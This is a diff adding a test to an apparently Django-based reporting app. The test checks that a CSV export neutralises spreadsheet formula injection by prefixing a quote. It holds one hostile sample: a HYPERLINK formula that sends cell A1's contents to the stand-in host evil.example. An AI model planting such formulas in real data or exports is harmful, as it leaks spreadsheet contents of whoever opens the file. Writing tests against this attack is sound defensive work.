@@ -146,3 +146,12 @@ def test_an_unknown_table_is_not_found(director):
     response = director.get("/work/dashboard/passwords.csv")
 
     assert response.status_code == 404
+
+
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(director, okafor):
+    attack = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+    type(okafor).objects.filter(pk=okafor.pk).update(credit_name=attack)
+
+    rows = csv_of(director.get(reverse("reporting:dashboard-csv", args=["reviewers"])))
+
+    assert rows[1][0] == "'" + attack
